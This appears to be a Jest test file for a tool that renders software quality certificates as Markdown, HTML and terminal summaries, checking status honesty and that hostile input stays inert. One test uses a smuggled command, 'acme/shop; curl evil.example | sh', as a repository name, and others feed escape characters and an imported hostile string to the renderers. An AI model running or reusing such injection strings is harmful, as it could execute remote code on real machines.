// The certificate as people see it: what it must say, and that nothing in it is alive.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { describe, expect, it } from '@jest/globals'
import type { Certificate, Signing } from '../../src/model/certificate.ts'
import type { DoorAnswer } from '../../src/model/door.ts'
import { doorEnding, issuedEnding, notIssuedEnding, revokedEnding } from '../../src/reporting/certificate-ending.ts'
import { renderEnding, renderEndingMarkdown } from '../../src/reporting/renderers/certificate-ending.ts'
import { renderCertificateHtml } from '../../src/reporting/renderers/certificate-html.ts'
import { renderCertificateMarkdown } from '../../src/reporting/renderers/certificate-markdown.ts'
import { aboutOf, CERTIFICATES, certificateFiles, hostileCertificate } from '../support/certificate-scenarios.ts'
import { certificate } from '../support/certificates.ts'
import { certificateOf } from '../support/issuing.ts'
import { HOSTILE } from '../support/scenarios.ts'
import { flawsOf, htmlFlawsOf } from '../support/well-formed.ts'

const UNSIGNED: Signing = { state: 'unsigned', why: 'the plan has no attestations' }
const markdown = (of: Certificate): string => renderCertificateMarkdown(of, aboutOf(of, UNSIGNED))
const html = (of: Certificate): string => renderCertificateHtml(of, aboutOf(of, UNSIGNED))

describe.each([
  ['Markdown', markdown],
  ['the page', html],
])('%s', (_, render) => {
  it('says what is certified, how far, until when, by whose word and how to check it', () => {
    const of = certificateOf()
    const text = render(of)
    for (const said of [
      of.id,
      of.commit,
      of.policy.digest,
      of.evaluation.evidenceDigest,
      of.validUntil.slice(0, 10),
      'Functional',
      'sha256sum',
    ])
      expect(text).toContain(said)
    expect(text).toContain('Gate 4')
    expect(text).toContain('the plan has no attestations')
  })

  it('has blockers as issue, impact and action, and conditions with their day', () => {
    const condition = { id: 'x', level: 4 as const, text: 'Coverage over 90 %', due: '2026-12-31T00:00:00.000Z' }
    const text = render({
      ...certificateOf(),
      conditions: [condition],
      blockers: [{ issue: 'No audit', impact: 'Not known', action: 'Have one' }],
    })
    for (const said of ['Issue', 'No audit', 'Impact', 'Not known', 'Action', 'Have one', 'Coverage over 90 %', '2026-12-31'])
      expect(text).toContain(said)
  })
})

describe.each(Object.entries(CERTIFICATES))('%s', (name, build) => {
  const files = certificateFiles(build())

  it.each(Object.keys(files))('%s is as it was looked at', (file) => {
    const place = new URL(`../golden/${name}/${file}`, import.meta.url)
    if (process.env.UPDATE_GOLDEN === '1') {
      mkdirSync(new URL('.', place), { recursive: true })
      writeFileSync(place, files[file]!)
    }
    expect(files[file]).toBe(readFileSync(place, 'utf8'))
  })

  it('is well-formed, and nothing in it is alive', () => {
    expect(flawsOf(files['certificate.md']!, [])).toEqual([])
    expect(htmlFlawsOf(files['certificate.html']!)).toEqual([])
    expect(files['certificate.html']).toContain("default-src 'none'")
  })

  it('ends with the words that it is no audit opinion, and says that the ledger has the last word', () => {
    for (const text of Object.values(files)) {
      expect(text.split('not an audit opinion')).toHaveLength(2)
      expect(text).toContain('Whether it still holds is not on this page')
    }
  })
})

it('no command to type holds anything but a repository’s name', () => {
  for (const render of [markdown, html]) {
    const text = render({ ...certificateOf(), repository: 'acme/shop; curl evil.example | sh' })
    expect(text).toContain('--repository OWNER/REPO --commit')
    expect(text).not.toMatch(/--repository acme/)
  }
})

describe('what is not in force', () => {
  const of = certificateOf()
  const revoked = aboutOf(of, UNSIGNED, [of.id])

  it.each([
    ['Markdown', renderCertificateMarkdown(of, revoked)],
    ['the page', renderCertificateHtml(of, revoked)],
  ])('%s says so first, and nowhere that it is active', (_, text) => {
    expect(text).toMatch(/✗\srevoked/)
    expect(text.indexOf('not in force since 2026-11-23')).toBeLessThan(text.indexOf('met the criteria'))
    expect(text).not.toMatch(/✓\sactive|>active/)
  })

  it('the page is red where it is revoked or expired, and green only where it is active', () => {
    const toneOf = (text: string): string => /<main class="(\w+)">/.exec(text)![1]!
    expect(toneOf(renderCertificateHtml(of, revoked))).toBe('bad')
    expect(
      toneOf(
        renderCertificateHtml(
          { ...of, validUntil: '2026-11-22T10:00:00.000Z' },
          aboutOf({ ...of, validUntil: '2026-11-22T10:00:00.000Z' }, UNSIGNED),
        ),
      ),
    ).toBe('bad')
    expect(toneOf(html(of))).toBe('good')
  })
})

describe('what only looks like being done', () => {
  const base = certificateOf()

  it('a domain of which nothing was asked is neither complete nor 100 %', () => {
    const none = { id: 'performance' as const, name: 'Performance Standards', done: 0, total: 0, percent: null, open: [] }
    for (const render of [markdown, html]) {
      const text = render({ ...base, domains: [none] }).replace(/<style>[\s\S]*<\/style>/, '')
      expect(text).toMatch(/not\sasked/)
      expect(text).not.toMatch(/✓\scomplete/)
      expect(text).not.toMatch(/\(0 of 0\)/)
    }
  })

  it('a criterion without a value does not show one', () => {
    const open = base.levels[0]!.criteria[0]!
    const levels = [{ ...base.levels[0]!, criteria: [{ ...open, outcome: 'no_evidence' as const, value: null }] }]
    for (const render of [markdown, html]) expect(render({ ...base, levels })).toMatch(/◌\sno\sevidence[\s\S]{0,60}unknown/)
  })

  it('a level that is not covered says so', () => {
    const text = html({ ...base, level: 3 })
    expect(text).toMatch(/Level 4 [^<]*, not covered/)
    expect(text).not.toMatch(/Level 3 [^<]*, not covered/)
  })

  it('a signature that is not there has no command that looks for it', () => {
    expect(html(base)).not.toContain('gh attestation')
    const signed = renderCertificateHtml(base, aboutOf(base, { state: 'signed', bundle: 'b'.repeat(64), url: null }))
    expect(signed).toContain('gh attestation verify certificate.json')
  })
})

it('Markdown of ten thousand reports and remarks stays within a step summary, and says what it left out', () => {
  const many = <T>(one: T): T[] => Array.from({ length: 10_000 }, () => one)
  const of = hostileCertificate('<|>'.repeat(300))
  const text = markdown({
    ...of,
    evidence: many(of.evidence[0]!),
    loosened: many(of.loosened[0]!),
    blockers: many(of.blockers[0]!),
    conditions: many(of.conditions[0]!),
    subjects: many(of.subjects[0]!),
    levels: of.levels.map((one) => ({ ...one, criteria: many(one.criteria[0]!) })),
  })
  expect(Buffer.byteLength(text)).toBeLessThanOrEqual(1_048_576)
  expect(text).toContain('All of it is in certificate.json')
})

describe('the answer at the door', () => {
  const answer: DoorAnswer = {
    ok: false,
    code: 'REVOKED',
    refusals: [{ code: 'REVOKED', text: `It was revoked.\u001b[2J${HOSTILE}`, fix: 'Certify a commit that holds.' }],
    notes: ['No artifact was asked for.'],
    certificate: certificate(),
    status: null,
    signer: null,
  }
  const look = { color: false, width: 100 }

  it('names each reason by its code, with what to do, and no control character', () => {
    const text = renderEnding(doorEnding(answer), look)
    expect(text).toMatch(/refused: CERT-/)
    expect(text).toContain('REVOKED: It was revoked.')
    expect(text).toContain('Certify a commit that holds.')
    expect(text).toContain('No artifact was asked for.')
    expect(text).not.toMatch(/[\u001b\u202e]/)
  })

  it('accepted reads as nothing else', () => {
    const text = renderEnding(doorEnding({ ...answer, ok: true, code: null, refusals: [] }), look)
    expect(text).toMatch(/✓ accepted/)
    expect(text).not.toContain('refused')
  })
})

describe('how a command ended', () => {
  const look = { color: false, width: 100 }
  const of = certificateOf()
  const both = (ending: Parameters<typeof renderEnding>[0]): string[] => [
    renderEnding(ending, look),
    renderEndingMarkdown(ending),
  ]
  const held = (change: Partial<Certificate>, signing: Signing = UNSIGNED) => ({
    schema: 'certify/certificate-issued/v1' as const,
    certificate: { ...of, ...change },
    digest: 'd'.repeat(64),
    signing,
    owners: {},
    renews: null,
  })
  const CONDITION = { id: 'system_test_coverage', level: 4 as const, text: 'x', due: '2026-12-31T00:00:00.000Z' }

  it('issued: status, level, dates, signature and what to do next', () => {
    for (const text of both(issuedEnding(held({}), aboutOf(of, UNSIGNED).status, false)))
      for (const said of [
        /is issued/,
        /✓ CERT-[\s\S]*active since 2026-11-22/,
        /4, System/,
        /until 2027-05-22/,
        /the plan has no/,
        /verify with commit/,
      ])
        expect(text).toMatch(said)
  })

  it('with open conditions it does not look as without', () => {
    const certificate = { ...of, conditions: [CONDITION] }
    for (const text of both(issuedEnding(held(certificate), aboutOf(certificate, UNSIGNED).status, true))) {
      expect(text).toMatch(/⚠ CERT-\S+ was issued before/)
      expect(text).toMatch(/conditional[\s\S]*2026-12-31/)
      expect(text).toMatch(/Meet the open conditions/)
      expect(text).not.toContain('✓')
    }
  })

  it('not issued: every reason, and nothing that passes', () => {
    for (const text of both(notIssuedEnding(['Gate 3 is not open.', 'No security sign-off.']))) {
      for (const said of [
        'No certificate has been issued',
        'Gate 3 is not open.',
        'No security sign-off.',
        'not an audit opinion',
      ])
        expect(text).toContain(said)
      expect(text).not.toContain('✓')
    }
  })

  it('revoked: since when, and that it is final', () => {
    const { status } = aboutOf(of, UNSIGNED, [of.id])
    const data = {
      schema: 'certify/certificate-revoked/v1',
      id: of.id,
      reason: 'vulnerability',
      comment: HOSTILE,
      at: status.since,
    } as const
    for (const text of both(revokedEnding(of, status, data, { what: 'is revoked, in record 9', others: ['CERT-2'] }))) {
      expect(text).toMatch(/✗ CERT-\S+ is revoked, in record 9/)
      expect(text).toMatch(/revoked since 2026-11-23[\s\S]*final/)
      expect(text).toMatch(/Also revoked:? +`?CERT-2/)
      expect(text).not.toMatch(/✓|evil\.example/)
    }
  })

  it('refused for another reason it has no tick, though it is active', () => {
    const refusals = [{ code: 'SIGNATURE_INVALID' as const, text: 'The signature does not hold.', fix: 'Issue it again.' }]
    const { status } = aboutOf(of, UNSIGNED)
    for (const text of both(
      doorEnding({ ok: false, code: 'SIGNATURE_INVALID', refusals, notes: [], certificate: of, status, signer: null }),
    )) {
      expect(text).toMatch(/Status:? +active since/)
      expect(text).not.toContain('✓')
    }
  })

  it('a door that knows no status says so, and is not green for it', () => {
    const answer: DoorAnswer = { ok: false, code: null, refusals: [], notes: [], certificate: of, status: null, signer: null }
    for (const text of both(doorEnding(answer))) {
      expect(text).toMatch(/status not known/)
      expect(text).not.toContain('✓')
    }
  })

  it('nothing in the summary is alive, whatever is in the certificate', () => {
    const hostile = hostileCertificate(HOSTILE)
    const refusals = [{ code: 'REVOKED' as const, text: HOSTILE, fix: HOSTILE }]
    const answer: DoorAnswer = {
      ok: false,
      code: 'REVOKED',
      refusals,
      notes: [HOSTILE],
      certificate: hostile,
      status: null,
      signer: null,
    }
    const status = aboutOf(hostile, UNSIGNED).status
    for (const ending of [
      doorEnding(answer),
      notIssuedEnding([HOSTILE]),
      issuedEnding(held(hostile, { state: 'unsigned', why: HOSTILE }), { ...status, why: HOSTILE }, false),
    ])
      expect(flawsOf(renderEndingMarkdown(ending), [])).toEqual([])
  })
})
